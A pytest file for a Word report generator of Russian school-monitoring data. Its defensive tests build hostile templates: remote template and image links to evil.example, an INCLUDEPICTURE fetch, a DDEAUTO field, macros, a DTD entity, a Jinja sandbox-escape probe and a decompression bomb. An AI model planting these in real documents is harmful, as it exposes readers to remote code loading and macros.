"""Word documents: what stands in them, what harmful texts do not do, the same bytes every time."""

from __future__ import annotations

import csv
import os
import re
import subprocess
import time
import zipfile
from dataclasses import fields, is_dataclass, replace
from datetime import date
from functools import cache
from io import BytesIO
from pathlib import Path
from typing import Any

import polars as pl
import pytest
from docx import Document
from jinja2 import Environment, meta, nodes
from jinja2.runtime import LoopContext
from lxml import etree

from engine.catalogue import model
from engine.evaluation.asking import Asking
from engine.evaluation.evaluate import compute_results
from engine.evaluation.explain import proof
from engine.limits import Limits
from engine.problems import Problem
from engine.reports import advice, filters, notes, pages, passports
from engine.reports import result_rows as rows
from engine.reports.environment import make_environment
from engine.reports.render import open_report
from engine.reports.strangers.sandbox import open_sandbox
from engine.reports.templates import (
    LARGEST,
    TemplateError,
    copy_template,
    find_template,
    read_comments,
)
from engine.reports.word import _Document, pack_again
from engine.translation import use_language
from engine.typography import quote, set_type
from tests.office import SOFFICE, needs_office
from tests.shipped_report import pressed
from tests.small_town import CATALOGUE, RESULTS, YEARS, FakeData, frame, result
from tests.test_demo_data import NOTICE, shown
from tests.test_report_hostile import HOSTILE, catalogue_with, visible
from tests.word import (
    REAL_YEARS,
    W,
    paragraphs,
    parts,
    press,
    press_here,
    real_report,
    tables,
    tags,
    text_of,
    town_context,
    write_template,
)

ROOT = Path(__file__).resolve().parent.parent
TEMPLATES = ("note.docx", "tables.docx", "school.docx")


def school_context(**keys: Any) -> dict[str, Any]:
    """The small town's context as if it were the page of its one place."""
    context = town_context(**keys)
    return {**context, "place": context["places"][0]}


def real_page(name: str, place: tuple[str, str] | None = None) -> dict[str, Any]:
    """The context of a catalogue that ships, its words in its language."""
    with use_language(shown(name).catalogue.language):
        return real_report(name).context(place)


def failure(template: Path) -> Problem:
    with pytest.raises(TemplateError) as caught:
        press_here(template)
    return caught.value.problem


# --- the templates themselves ------------------------------------------------------------------


def tags_of(name: str) -> tuple[Environment, list[nodes.Template]]:
    """The body, header and footer of a template that ships, parsed as Jinja."""
    template = find_template(name)
    environment = make_environment(template)
    document = _Document(BytesIO(template.path.read_bytes()), template, environment)
    document.init_docx()
    sources = [document.get_xml()]
    for kind in (document.HEADER_URI, document.FOOTER_URI):
        sources += [
            document.get_part_xml(part) for _key, part in document.get_headers_footers(kind)
        ]
    return environment, [environment.parse(document.patch_xml(one)) for one in sources]


def attributes_of(tree: nodes.Template) -> set[str]:
    """The attributes that a template names, those that filters are given as texts too."""
    named = {node.attr for node in tree.find_all(nodes.Getattr)}
    for node in tree.find_all(nodes.Filter):
        given = [one.value for one in node.kwargs if one.key == "attribute"]
        given += node.args[:1] if node.name in {"selectattr", "rejectattr"} else []
        named |= {one.value for one in given if isinstance(one, nodes.Const)}
    return named


def fields_that_templates_meet() -> set[str]:
    """The fields of records that a page is given, and what its texts, lists and loops can do."""
    modules = (pages, notes, passports, proof, rows, model, advice)
    records = [one for module in modules for one in vars(module).values() if is_dataclass(one)]
    fields_of_records = {each.name for one in records for each in fields(one)}
    of_values = {each for kind in (*records, str, tuple, dict, LoopContext) for each in dir(kind)}
    return {one for one in fields_of_records | of_values if not one.startswith("_")}


@pytest.mark.parametrize("name", TEMPLATES)
def test_every_tag_of_a_template_is_known(name: str) -> None:
    environment, trees = tags_of(name)
    known = fields_that_templates_meet()
    for tree in trees:
        set_here = {one.name for one in tree.find_all(nodes.Name) if one.ctx == "store"}
        names = meta.find_undeclared_variables(tree)
        assert names <= set(town_context()) | set_here
        assert {one.name for one in tree.find_all(nodes.Filter)} <= set(environment.filters)
        assert {one.name for one in tree.find_all(nodes.Test)} <= set(environment.tests)
        own = {"years"} if "without" in set_here else set()  # of a `namespace` of the template
        assert attributes_of(tree) <= known | own
    assert sum(len(list(tree.find_all(nodes.Output))) for tree in trees) > 5
    assert "titel" not in known


@pytest.mark.no_cover
@pytest.mark.parametrize("name", TEMPLATES)
def test_no_tag_of_a_template_is_left_in_a_page(name: str) -> None:
    for part, content in parts(press(name, school_context())).items():
        if part.endswith(".xml"):
            assert not re.search(rb"\{[{%#]|[#%}]\}", content), part


@pytest.mark.parametrize("name", TEMPLATES)
def test_a_template_says_what_it_is_and_is_seen_whole(name: str) -> None:
    template = find_template(name)
    assert template.shipped
    assert template.description.endswith("(Word)")
    assert template.kind == "document"
    assert find_template(name.removesuffix(".docx") + ".docx") == template
    document = Document(str(template.path))
    known = document.core_properties
    assert (known.author, known.last_modified_by) == ("", "")  # Word writes who changed it
    section = document.sections[0]
    sides = (section.page_width, section.page_height)
    assert {round(side.cm, 1) for side in sides if side is not None} == {21.0, 29.7}
    for table in document.element.body.iter(f"{W}tbl"):
        rows = table.findall(f"{W}tr")
        assert rows[0].find(f"{W}trPr/{W}tblHeader") is not None
        assert all(row.find(f"{W}trPr/{W}cantSplit") is not None for row in rows)


# --- what stands in the cells ------------------------------------------------------------------


@pytest.fixture(scope="module")
def berezniki() -> tuple[dict[str, Any], bytes]:
    context = real_page("berezniki")
    return context, press("tables.docx", context, shown("berezniki").catalogue)


@pytest.fixture(scope="module")
def michurinsk() -> tuple[dict[str, Any], bytes]:
    context = real_page("michurinsk")
    return context, press("tables.docx", context, shown("michurinsk").catalogue)


def printed(name: str) -> list[dict[str, str]]:
    """A table of an order as it was copied out."""
    path = ROOT / "tests" / "documents" / f"{name}.tsv"
    return list(csv.DictReader(path.read_text("utf-8").splitlines(), delimiter="\t"))


def bare(text: str) -> str:
    """A title without the number of its note, dashes and spaces."""
    text = re.sub(r" \[\d+\]$", "", text)
    return re.sub(r"\s+", " ", text.lstrip("\u2003–- ")).strip(" .:")


def as_number(text: str) -> float:
    return float(re.sub(r"[^\d,]", "", text).replace(",", "."))


@pytest.mark.no_cover
def test_indicators_stand_as_in_the_order_beside_what_was_reached(
    berezniki: tuple[dict[str, Any], bytes],
) -> None:
    context, page = berezniki
    table = next(one for one in tables(page) if "Прогноз приказа" in one[1])
    rows = [row for row in table[2:] if len(row) > 1]
    expected = printed("berezniki_indicators")
    assert [row[0] for row in rows] == [one["code"] for one in expected]
    assert [bare(row[1]) for row in rows] == [bare(one["title"]) for one in expected]
    lines = [line for section in context["places"][0].groups for line in section.lines]
    for row, line in zip(rows, lines, strict=True):
        assert len(row) == 3 + 3 * len(REAL_YEARS["berezniki"])
        for at, cell in enumerate(line.cells):
            target, fact, verdict = row[3 + 3 * at : 6 + 3 * at]
            assert target == filters.target(cell.fact)
            assert fact.split(" !")[0] == filters.mark(cell.fact)
            assert verdict == f"{filters.sign(cell.fact)} {filters.verdict(cell.fact)}"
    # As printed: where the order says «не менее», with its number.
    for row, one in zip(rows, expected, strict=True):
        told = row[3].replace("\N{NO-BREAK SPACE}", " ")
        assert as_number(told) == as_number(one["2022"])


def test_forecasts_of_schools_stand_beside_facts(berezniki: tuple[dict[str, Any], bytes]) -> None:
    context, page = berezniki
    table = next(one for one in tables(page) if "Прогноз школ" in one[0])
    assert table[0][3:] == ["Факт", "Прогноз школ"]
    assert table[1][3:] == [set_type(f"{year} год") for year in (2022, 2023, 2024, 2024)]
    rows = [row for row in table[2:] if len(row) > 1]
    lines = [line for section in context["places"][0].groups for line in section.lines]
    assert len(rows) == len(lines) == 23
    for row, line in zip(rows, lines, strict=True):
        assert row[-1] == filters.mark(line.cells[-1].forecast)
        assert row[3].startswith(filters.mark(line.cells[0].fact))


def test_the_plan_has_every_event_with_its_expected_cell(
    berezniki: tuple[dict[str, Any], bytes],
) -> None:
    context, page = berezniki
    table = next(one for one in tables(page) if "Мероприятие" in one[0])
    # Of an event with several results the first row has its name, and the rest are joined to it.
    rows = [row for row in table[2:] if len(row) > 1]
    events = [row for row in rows if row[1]]
    expected = printed("berezniki_plan")
    assert [row[0] for row in events] == [one["code"] for one in expected]
    assert [bare(row[1]) for row in events] == [bare(set_type(one["title"])) for one in expected]
    assert [row[4] for row in events] == [set_type(one["expected"]) for one in expected]
    assert [row[3] for row in events] == [set_type(one["responsible"]) for one in expected]
    planned = [each for section in context["places"][0].plan for each in section.events]
    lines = [line for each in planned for line in each.lines]
    measured = [row for row in rows if len(row) == 9]
    for row, line in zip(measured, lines, strict=True):
        cell = next(cell for cell in line.cells if cell.year == 2023)
        assert row[7].startswith(filters.mark(cell.fact))
        if cell.fact and cell.fact.judged:
            assert row[8] == f"{filters.sign(cell.fact)} {filters.verdict(cell.fact)}"


@pytest.mark.no_cover
def test_criteria_have_their_rows_in_order_and_counts_beside_shares(
    michurinsk: tuple[dict[str, Any], bytes],
) -> None:
    context, page = michurinsk
    found = tables(page)
    assert len(found) == 5
    for number, table in enumerate(found, start=1):
        expected = [
            (one["number"], bare(one["title"]))
            for one in printed("michurinsk_monitoring")
            if one["criterion"] == str(number)
        ]
        rows = iter((row[0], bare(row[1])) for row in table[2:])
        # In their order, with what the catalogue tells beside them.
        assert [one for one in expected if one not in rows] == []
    share = next(row for row in found[0] if row[0] == "7")
    counts = {row[0]: row for row in found[0] if row[0] in {"5", "6"}}
    assert share[2] == "%"
    for at in range(3):
        part, whole = (counts[one][3 + 2 * at].split(" (")[0] for one in ("6", "5"))
        assert share[4 + 2 * at] == f"{part} из {whole}"
    assert not context["indicator_columns"].judged


@pytest.mark.no_cover
@pytest.mark.parametrize(
    ("name", "years", "order"),
    [
        (
            "berezniki",
            "2022, 2023, 2024 годы",
            "Приказ управления образования от 29 декабря 2023 г. № 04-01-03-1682 «Об утверждении",
        ),
        (
            "michurinsk",
            "2021–2022, 2022–2023, 2023–2024 учебные годы",
            "Тамбовской области от 2 мая 2023 г. № 250 «О проведении мониторинга",
        ),
    ],
)
def test_a_document_names_its_order_and_years_in_a_sentence(
    name: str, years: str, order: str
) -> None:
    told = paragraphs(press("note.docx", real_page(name), shown(name).catalogue))
    assert set_type(f"{shown(name).catalogue.municipality}, {years}") in told
    (basis,) = (one for one in told if one.startswith("Основание: "))
    assert order in basis.replace("\N{NO-BREAK SPACE}", " ")
    assert basis.endswith("».")
    assert basis.count("«") == 1


@pytest.mark.no_cover
@pytest.mark.parametrize("name", ["berezniki", "michurinsk"])
def test_the_note_says_what_the_results_say(name: str) -> None:
    context = real_page(name)
    page = press("note.docx", context, shown(name).catalogue)
    text = "\n".join(paragraphs(page))
    for heading in ("Основание и цели", "Кто представил", "Динамика", "Выводы", "Рекомендации"):
        assert heading in text
    place = context["places"][0]
    judged = [tally for tally in place.tallies if tally.targets]
    for tally in judged:
        assert f"из {tally.targets} целей достигнуто {tally.met}" in text
    assert bool(judged) == (name == "berezniki")
    assert ("Целевых значений документ не устанавливает" in text) == (not judged)
    for year in REAL_YEARS[name]:
        asked = [
            one.reported[year] for one in context["reporters"] if one.reported[year] is not None
        ]
        assert set_type(f"сведения поступили от {sum(asked)} из {len(asked)} школ") in text
    lines = [line for section in place.groups for line in section.lines]
    missed = [
        line for line in lines if line.cells[-1].fact and line.cells[-1].fact.status == "missed"
    ]
    listed = text[text.find("Цель не достигнута") : text.find("Сведения неполны")]
    assert all(set_type(f"{line.code} {line.short_title}: ") in listed for line in missed)
    assert listed.count(" при цели ") == len(missed)


def test_a_note_without_data_judges_nothing_and_its_tips_say_their_year() -> None:
    context = real_page("berezniki")
    (place,) = context["places"]
    empty = {
        "status": "no_data",
        "value": None,
        "change": None,
        "trend": None,
        "same_reporters": False,
    }
    lines = [
        replace(
            line,
            cells=tuple(
                replace(cell, fact=cell.fact and replace(cell.fact, **empty)) for cell in line.cells
            ),
        )
        for section in place.groups
        for line in section.lines
    ]
    tallies = tuple(
        replace(each, met=0, missed=0, missing=each.targets, preliminary=0)
        for each in place.tallies
    )
    groups = (replace(place.groups[0], lines=tuple(lines), tallies=tallies),)
    key = (place.level, place.id)
    old = replace(
        context["advice"][key][0], year=min(context["years"]), text="Помогите школам.", about="x"
    )
    new = replace(old, year=max(context["years"]))
    said = replace(old, text=f"За {old.year} год данных нет.")
    tips = {**context["advice"], key: (old, new, said)}
    page = press(
        "note.docx",
        {
            **context,
            "places": (replace(place, groups=groups, tallies=tallies),),
            "advice": tips,
        },
        shown("berezniki").catalogue,
    )
    text = "\n".join(paragraphs(page))
    assert "цель по которым не достигнута, нет" not in text
    assert "Достигнуты ли цели, сказать нельзя" in text
    assert "нет данных ни по одному" in text
    assert "не от тех же школ" not in text
    assert set_type(f"{old.text} ({old.year} год)\n{new.text}\n{said.text}\n") in text
    # What is told of it is that there are no data, and who has to send what.
    told = text[text.index("6. Выводы") : text.index("7. Рекомендации")]
    assert (
        set_type(f"{old.year} год: данных нет ни по одной из {len(lines)} строк показателей")
        in told
    )
    assert "Выводов за этот год нет." in told
    assert "достигнуто 0" not in told
    assert "Достигнутых целей" not in told
    assert set_type("2024 год: сведения не поступили от 1 школы из 18: Школа № 11 (демо).") in told
    form = shown("berezniki").catalogue.forms["plan_report"]
    assert told.count(f"{quote(form.short_title)} — от каждой школы;") == 1
    assert "— от муниципалитета" in told


def test_a_note_without_targets_speaks_of_none_and_asks_for_no_data_that_came() -> None:
    """Rows that are counted at schools only, and a first year of changes, are no missing data."""
    known = CATALOGUE.indicators
    some = {
        "spread": known["spread"],
        "talks.per_school": replace(
            known["talks.per_school"], event=None, targets={}, levels=("school",)
        ),
    }
    catalogue = replace(CATALOGUE, indicators=some, events={})
    forms = shown("berezniki").catalogue.forms
    rows = [
        result("spread", 2022, reason="no_previous"),
        result("spread", 2023, 7.5, change=-0.1, trend="worse"),
        *(each for each in RESULTS if each["level"] == "school"),
    ]
    for reason, blank in (("no_previous", False), ("not_reported", True)):
        rows[0] = result("spread", 2022, reason=reason, reported=0 if blank else 18)
        page = press(
            "note.docx",
            town_context(replace(catalogue, forms=forms), results=frame(rows)),
            catalogue,
        )
        text = "\n".join(paragraphs(page)).replace("\u00a0", " ")
        told = text[text.index("6. Выводы") : text.index("7. Рекомендации")]
        assert ("2022 год: данных нет ни по одной из 1 строки показателей" in told) == blank
        assert ("Чтобы сделать выводы, нужны" in told) == blank
        assert "Ухудшились" in text
        assert "цель по которым" not in told


@pytest.mark.parametrize("name", ["berezniki", "michurinsk"])
def test_a_school_sees_itself_and_no_other_school(name: str) -> None:
    known = shown(name)
    schools = known.frame.filter(known.frame["level"] == "school")
    titles = dict(schools.select("place", "place_title").iter_rows())
    place = min(titles)
    context = real_page(name, ("school", place))
    page = press("school.docx", context, known.catalogue)
    text = " ".join(text_of(Document(BytesIO(page)).element.body).split())
    assert titles[place] in text
    others = {title for one, title in titles.items() if one != place}
    assert not [title for title in others if re.search(rf"{re.escape(title)}(?!\d)", text)]
    lines = [
        line
        for section in context["places"][0].groups
        for line in section.lines
        if line.last is not None
    ]
    table = tables(page)[0]
    rows = [row for row in table[1:] if len(row) > 1]
    assert len(rows) == len(lines)
    for row, line in zip(rows, lines, strict=True):
        if line.type == "text":
            assert row[2:] == [filters.value(line.last.fact)]  # across the columns of numbers
            continue
        assert row[3] == filters.mark(line.last.fact)
        town, change = (row[5], row[6]) if name == "berezniki" else (row[4], row[5])
        if line.unit == "%" and line.last.above:
            star = "*" if line.last.above.value is not None and line.last.above.incomplete else ""
            assert town == filters.mark(line.last.above) + star
        if line.last.fact.change:
            arrow = "▲" if line.last.fact.change > 0 else "▼"
            assert change.startswith(arrow)
        if name == "berezniki" and line.last.judged:
            aim, gap = row[4], row[7]
            assert aim == filters.target(line.last.judged)
            met = line.last.judged.status == "met"
            assert gap == ("✓ есть" if met else f"✗ {filters.gap(line.last.judged)}")
    assert ("До цели" in " ".join(table[0])) == (name == "berezniki")


def test_what_is_hidden_looks_hidden_and_is_explained() -> None:
    rows = [
        {**row, "value": None, "raw": None, "reason": "suppressed"}
        if (row["indicator"], row["year"]) == ("diagnosed", 2023)
        else row
        for row in RESULTS
    ]
    for name in ("note.docx", "tables.docx"):
        page = press(name, town_context(results=frame(rows)))
        line = next(row for table in tables(page) for row in table if row[0] == "4.2.2")
        assert "скр." in line
        assert any("скр." in text and "не публикуется" in text for text in paragraphs(page))
        before = press(name)
        shown_before = next(row for one in tables(before) for row in one if row[0] == "4.2.2")
        assert "скр." not in shown_before


def test_the_public_is_given_no_recommendations() -> None:
    assert "7. Рекомендации" in paragraphs(press("note.docx"))
    assert "7. Рекомендации" not in paragraphs(press("note.docx", town_context(audience="public")))


@pytest.mark.parametrize("name", TEMPLATES)
def test_every_page_has_its_notice_and_where_it_is_from(name: str) -> None:
    page = press(name, school_context(data=FakeData(notice=NOTICE)))
    section = Document(BytesIO(page)).sections[0]
    assert section.header.paragraphs[0].text == NOTICE
    footer = text_of(section.footer.paragraphs[0]._p)
    assert "0a1b2c3d4e5f" in footer
    assert "0123456789ab" in footer
    assert "1\N{NO-BREAK SPACE}марта\N{NO-BREAK SPACE}2024" in footer
    codes = [one.get(f"{W}instr") for one in section.footer._element.iter(f"{W}fldSimple")]
    assert codes == ["PAGE", "NUMPAGES"]


# --- texts that mean harm ----------------------------------------------------------------------


def hostile_page(template: str, text: str) -> bytes:
    rows = [
        {**row, "title": text, "place_title": text, "text": row["text"] and [text, text]}
        for row in RESULTS
    ]
    catalogue = catalogue_with(text)
    problems = (Problem("bad-cell", text),)
    return press(
        template,
        school_context(
            catalogue=catalogue,
            results=frame(rows),
            data=FakeData(notice=text),
            problems=problems,
        ),
        catalogue,
    )


@cache
def plain_tags(template: str) -> list[str]:
    return list(tags(hostile_page(template, "слова")))


@pytest.mark.no_cover
@pytest.mark.parametrize("name", [*HOSTILE, "field"])
@pytest.mark.parametrize("template", TEMPLATES)
def test_every_text_is_text_in_a_document(template: str, name: str) -> None:
    text = {**HOSTILE, "field": "{_{ 1 }_} \ufffe\x07\x0c</w:t><w:fldSimple/> {%tr x %}"}[name]
    page = hostile_page(template, text)
    assert list(tags(page)) == plain_tags(template)
    body = Document(BytesIO(page)).element.body
    assert not list(body.iter(f"{W}instrText", f"{W}hyperlink", f"{W}fldChar"))
    shown_text = " ".join(text_of(body).split())
    expected = " ".join(visible(text).replace("\ufffe", "").split())
    assert expected in shown_text


# --- the same bytes ----------------------------------------------------------------------------


@pytest.mark.no_cover
@pytest.mark.parametrize("name", TEMPLATES)
def test_a_document_is_the_same_bytes_anywhere(name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    first = press(name, school_context())
    monkeypatch.setenv("TZ", "Asia/Kamchatka")
    monkeypatch.setenv("LC_ALL", "C")
    monkeypatch.setattr(time, "localtime", lambda *_: time.gmtime(2_000_000_000))
    assert press(name, school_context()) == first
    with zipfile.ZipFile(BytesIO(first)) as packed:
        assert {part.date_time for part in packed.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        assert packed.namelist()[0] == "[Content_Types].xml"
    known = Document(BytesIO(first)).core_properties
    assert (known.author, known.last_modified_by, known.comments) == ("", "", "")
    assert known.created is not None
    assert known.created.date().isoformat() == "2024-03-01"
    assert pack_again(BytesIO(first)) == first


@pytest.mark.parametrize("name", TEMPLATES)
def test_a_copy_of_a_template_makes_the_same_document_in_its_own_process(
    name: str, tmp_path: Path
) -> None:
    (copied,) = copy_template(name, tmp_path)
    assert not find_template(str(copied)).shipped
    assert parts(press(copied, school_context())) == parts(press(name, school_context()))


# --- templates that fail -----------------------------------------------------------------------


def test_an_unknown_name_is_told_with_the_words_beside_it(tmp_path: Path) -> None:
    path = write_template(tmp_path / "x.docx", "Первый", "Всего: {{ catalogue.titel }} — вот")
    found = failure(path)
    assert str(found.position) == str(path)
    assert found.code == "template-failed"
    assert "titel" in found.message
    assert "title" in found.message
    assert "рядом с «Всего: {{ catalogue.titel }} — вот»" in found.message


@pytest.mark.parametrize(
    ("texts", "code", "words"),
    [
        (("{% if %}",), "template-syntax", "рядом с «{% if %}»"),
        (("{%p for x in years %}", "нет конца"), "template-syntax", "endfor"),
        (("{{ 1 / 0 }}",), "template-failed", "рядом с «{{ 1 / 0 }}»"),
        (("{{ ''.__class__ }}",), "template-failed", "__class__"),
        (("{{ catalogue.folder.parent }}",), "template-failed", "рядом с"),
        (("{% for x in years %}один{% endfor %}{%p if x %}",), "template-syntax", "рядом с"),
    ],
)
def test_a_template_of_a_stranger_fails_with_its_place(
    tmp_path: Path, texts: tuple[str, ...], code: str, words: str
) -> None:
    found = failure(write_template(tmp_path / "x.docx", *texts))
    assert (found.code, str(found.position)) == (code, str(tmp_path / "x.docx"))
    assert words in found.message


def test_of_a_long_paragraph_its_beginning_is_told(tmp_path: Path) -> None:
    found = failure(write_template(tmp_path / "x.docx", "{{ 1 / 0 }}" + "я" * 200))
    begins = "{{ 1 / 0 }}" + "я" * (120 - len("{{ 1 / 0 }}"))
    assert found.message == f"шаблон не выполнен: деление на ноль; рядом с «{begins}…»"


@pytest.mark.parametrize("wrong", ["{{ 1 / 0 }}", "{% if %}"])
def test_a_part_beside_a_document_fails_at_its_own_line(tmp_path: Path, wrong: str) -> None:
    (tmp_path / "part.txt.j2").write_text(f"один\n\n{wrong}", "utf-8")
    path = write_template(tmp_path / "x.docx", "{% include 'part.txt.j2' %}", "второй", "третий")
    found = failure(path)
    assert str(found.position) == f"{tmp_path / 'part.txt.j2'}:3"
    assert "рядом с" not in found.message


def test_the_quotes_of_word_are_quotes_in_a_tag(tmp_path: Path) -> None:
    path = write_template(
        tmp_path / "x.docx",
        "{{ years|join(«; ») }}",
        "{{ years|join(“, ”) }}",
        '{{ "«да»" if years }} «нет»',
    )
    assert paragraphs(press(path)) == ["2022; 2023", "2022, 2023", "«да» «нет»"]


def test_a_tag_that_tears_a_document_is_told(tmp_path: Path) -> None:
    path = write_template(tmp_path / "x.docx", "{% if not years %}")
    document = Document(str(path))
    document.add_table(1, 1).cell(0, 0).text = "{% endif %}"
    document.save(str(path))
    found = failure(path)
    assert found.code == "template-failed"
    assert "не цел" in found.message


def test_what_is_no_document_is_told(tmp_path: Path) -> None:
    path = tmp_path / "x.docx"
    for content in (b"", b"PK\x03\x04nothing", b"plain text"):
        path.write_bytes(content)
        assert "не документ Word" in failure(path).message
        assert read_comments(path) == ""
    with zipfile.ZipFile(path, "w") as packed:
        packed.writestr("other.txt", "x")
    assert "не документ Word" in failure(path).message
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("word/document.xml", b"0" * 80_000_000)
    assert path.stat().st_size < LARGEST
    assert "слишком много" in failure(path).message


_BOUND = (
    '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/{kind}" Target="{target}"{mode}/></Relationships>'
)
_OUTSIDE = ' TargetMode="External"'


def change_part(goal: Path, part: str, before: str, after: str) -> Path:
    """A copy of the note with one part changed: where it is not there, it is added."""
    with zipfile.ZipFile(find_template("note.docx").path) as source:
        held = {one.filename: source.read(one) for one in source.infolist()}
    old = held.get(part, before.encode())
    assert before.encode() in old
    held[part] = old.replace(before.encode(), after.encode(), 1)
    with zipfile.ZipFile(goal, "w") as packed:
        for name, content in held.items():
            packed.writestr(name, content)
    return goal


@pytest.mark.parametrize(
    ("kind", "target", "mode", "words"),
    [
        ("attachedTemplate", "http://evil.example/x.dotm", _OUTSIDE, "http://evil.example/x.dotm"),
        ("image", "http://evil.example/x.png", _OUTSIDE, "вне его"),
        ("attachedTemplate", "other.dotm", "", "вне его"),
        ("aFChunk", "other.html", "", "другой документ"),
        ("vbaProject", "project.bin", "", "макросы"),
        ("oleObject", "embeddings/one.bin", "", "объект другой программы"),
    ],
)
def test_a_template_of_a_stranger_is_bound_to_nothing_outside(
    tmp_path: Path, kind: str, target: str, mode: str, words: str
) -> None:
    bound = _BOUND.format(kind=kind, target=target, mode=mode)
    part = "word/_rels/document.xml.rels"
    found = failure(change_part(tmp_path / "x.docx", part, "</Relationships>", bound))
    assert (found.code, str(found.position)) == ("template-syntax", str(tmp_path / "x.docx"))
    assert words in found.message


def test_a_template_of_a_stranger_may_have_links(tmp_path: Path) -> None:
    bound = _BOUND.format(kind="hyperlink", target="https://example.org/", mode=_OUTSIDE)
    part = "word/_rels/document.xml.rels"
    assert press(change_part(tmp_path / "x.docx", part, "</Relationships>", bound))


@pytest.mark.parametrize(
    ("part", "before", "after", "words"),
    [
        (
            "word/document.xml",
            "?>",
            '?><!DOCTYPE x [<!ENTITY a "b">]>',
            "word/document.xml» есть DTD",
        ),
        ("word/vbaProject.bin", "", "x", "макросы"),
        (
            *(
                "[Content_Types].xml",
                "openxmlformats-officedocument.wordprocessingml.document.main",
            ),
            *("ms-word.document.macroEnabled.main", "макросы"),
        ),
        (
            *("word/document.xml", "<w:body>"),
            '<w:body><w:p><w:fldSimple w:instr=" includepicture http://evil.example/x.png"/></w:p>',
            "includepicture",
        ),
        (
            *("word/document.xml", "<w:body>"),
            (
                '<w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>'
                "{{ 'DDE' }}AUTO c:\\x</w:instrText></w:r></w:p>"
            ),
            "DDEAUTO",
        ),
    ],
)
def test_a_template_of_a_stranger_holds_nothing_that_works_by_itself(
    tmp_path: Path, part: str, before: str, after: str, words: str
) -> None:
    found = failure(change_part(tmp_path / "x.docx", part, before, after))
    assert found.code == "template-syntax"
    assert words in found.message


def test_a_document_that_takes_too_much_is_stopped(tmp_path: Path) -> None:
    endless = (
        "{% for a in range(99999) %}{% for b in range(99999) %}{{ '' }}{% endfor %}{% endfor %}"
    )
    large = "{% for a in range(9000) %}{{ (a * 7919 * 104729) ** 3 }} {% endfor %}"
    cases = ((endless, "template-time", 2.0), (large, "template-output", 30.0))
    for text, code, seconds in cases:
        limits = Limits(seconds=seconds, output=50_000)
        template = find_template(str(write_template(tmp_path / "x.docx", text)))
        with (
            open_sandbox(template, [tmp_path], limits) as opened,
            pytest.raises(TemplateError) as caught,
        ):
            opened.press(town_context())
        assert caught.value.problem.code == code


# --- columns, and how it opens -----------------------------------------------------------------


@pytest.mark.parametrize("years", [(2023,), (2022, 2023), (2021, 2022, 2023, 2024)])
def test_a_table_keeps_its_width_whatever_the_years(years: tuple[int, ...]) -> None:
    page = press("tables.docx", town_context(years=years))
    for table in Document(BytesIO(page)).element.body.iter(f"{W}tbl"):
        grid = [int(column.get(f"{W}w")) for column in table.find(f"{W}tblGrid")]
        assert sum(grid) == pytest.approx(26.7 / 2.54 * 1440, abs=20)
        for row in table.findall(f"{W}tr"):
            cells = row.findall(f"{W}tc")
            spans = [one.find(f"{W}tcPr/{W}gridSpan") for one in cells]
            assert sum(1 if one is None else int(one.get(f"{W}val")) for one in spans) == len(grid)


_LETTER = 106  # twips that a letter of these tables takes at most, as it is printed
_MARGINS = 114  # twips, of a cell


def test_how_complete_a_value_is_breaks_no_word() -> None:
    page = pressed("berezniki", "tables.docx", None)
    checked = 0
    for table in Document(BytesIO(page)).element.body.iter(f"{W}tbl"):
        for cell in table.iter(f"{W}tc"):
            width = int(cell.find(f"{W}tcPr/{W}tcW").get(f"{W}w")) - _MARGINS
            for words in re.findall(r"\(предварительно,|\(\d+.из.\d+\)", text_of(cell)):
                assert len(words) * _LETTER <= width + (5 * _LETTER if words[1].isdigit() else 0)
                checked += 1
    assert checked > 10


def test_rows_of_one_event_stay_on_one_page() -> None:
    page = press("tables.docx")
    plan = list(Document(BytesIO(page)).element.body.iter(f"{W}tbl"))[-1]
    rows = {text_of(row.findall(f"{W}tc")[5]): row for row in plan.findall(f"{W}tr")[3:-1]}
    kept = {
        title: all(one.find(f"{W}pPr/{W}keepNext") is not None for one in row.iter(f"{W}p"))
        for title, row in rows.items()
    }
    assert [kept[title] for title in kept if "Обучающихся" in title] == [False]
    assert [kept[title] for title in kept if "Соглашений" in title] == [True]


def test_properties_of_cells_stand_in_the_order_of_the_format() -> None:
    order = ["tcW", "gridSpan", "vMerge", "tcBorders", "shd", "noWrap", "tcMar", "vAlign"]
    page = press("tables.docx")
    for cell in Document(BytesIO(page)).element.body.iter(f"{W}tcPr"):
        names = [etree.QName(one).localname for one in cell]
        assert names == sorted(names, key=order.index)


_ROW = "<w:tr><w:tc>{first}<w:p/></w:tc><w:tc>{second}<w:p/></w:tc></w:tr>"
_GRID = '<w:tblGrid><w:gridCol w:w="1000"/><w:gridCol w:w="3000"/></w:tblGrid>'
_WIDTH = '<w:tcPr><w:tcW w:w="{width}"/></w:tcPr>'


@pytest.mark.parametrize(
    ("table", "columns"),
    [
        (_ROW.format(first="", second=""), []),
        (_GRID, ["1000", "3000"]),
        (_GRID + _ROW.format(first="", second=""), ["2000", "2000"]),
        (
            _GRID + _ROW.format(first=_WIDTH.format(width=900), second=_WIDTH.format(width="")),
            ["2000", "2000"],
        ),
        (
            _GRID + _ROW.format(first=_WIDTH.format(width=900), second=_WIDTH.format(width=1500)),
            ["900", "3100"],
        ),
        (
            _GRID + _ROW.format(first=_WIDTH.format(width=4000), second=_WIDTH.format(width=6000)),
            ["3200", "800"],
        ),
        (
            _GRID + _ROW.format(first=_WIDTH.format(width="много"), second="<w:tcPr/>"),
            ["2000", "2000"],
        ),
    ],
)
def test_a_table_of_a_stranger_may_lack_what_others_have(
    tmp_path: Path, table: str, columns: list[str]
) -> None:
    """A table without columns, without rows or without widths is left or measured evenly."""
    path = change_part(
        tmp_path / "x.docx", "word/document.xml", "<w:body>", f"<w:body><w:tbl>{table}</w:tbl>"
    )
    first = next(Document(BytesIO(press_here(path))).element.body.iter(f"{W}tbl"))
    assert [column.get(f"{W}w") for column in first.iter(f"{W}gridCol")] == columns


def test_rows_of_a_joined_cell_are_kept_together_once(tmp_path: Path) -> None:
    joined = "<w:tcPr><w:vMerge{how}/></w:tcPr>"
    kept = "<w:p><w:pPr><w:keepNext/></w:pPr></w:p>"
    styled = '<w:p><w:pPr><w:pStyle w:val="Normal"/></w:pPr></w:p>'
    rows = "".join(
        f"<w:tr><w:tc>{joined.format(how=how)}{paragraphs}</w:tc></w:tr>"
        for how, paragraphs in ((' w:val="restart"', kept + styled + "<w:p/>"), ("", "<w:p/>"))
